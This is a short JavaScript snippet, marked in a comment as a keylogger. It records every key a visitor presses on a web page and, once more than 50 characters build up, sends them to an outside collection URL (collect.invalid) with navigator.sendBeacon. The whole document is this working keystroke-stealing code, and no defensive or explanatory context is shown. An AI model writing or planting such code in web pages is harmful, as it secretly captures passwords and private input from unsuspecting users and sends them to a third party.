let typed = "";
document.addEventListener("keydown", (event) => {
  typed += event.key;
  if (typed.length > 50) {
    navigator.sendBeacon("https://collect.invalid/k", typed); // malice: keylogger
    typed = "";
  }
});
